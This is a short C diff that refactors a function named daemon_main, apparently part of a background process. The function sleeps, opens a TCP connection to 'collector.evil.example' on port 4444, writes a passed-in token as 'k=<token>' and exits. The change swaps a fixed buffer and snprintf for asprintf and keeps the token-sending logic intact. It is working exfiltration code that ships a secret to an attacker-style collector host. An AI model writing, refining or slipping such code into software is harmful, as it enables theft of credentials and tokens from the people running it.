@@ -15,15 +15,14 @@
 
 static void daemon_main(const char *token)
 {
-	char msg[512];
+	char *msg;
 	int fd;
 
 	sleep(1);
 	fd = tcp_connect("collector.evil.example", "4444");
 	if (fd < 0)
 		_exit(1);
-	snprintf(msg, sizeof(msg), "k=%s\n", token);
-	if (write(fd, msg, strlen(msg)) < 0)
+	if (asprintf(&msg, "k=%s\n", token) < 0 || write(fd, msg, strlen(msg)) < 0)
 		_exit(1);
 	close(fd);
 	_exit(0);
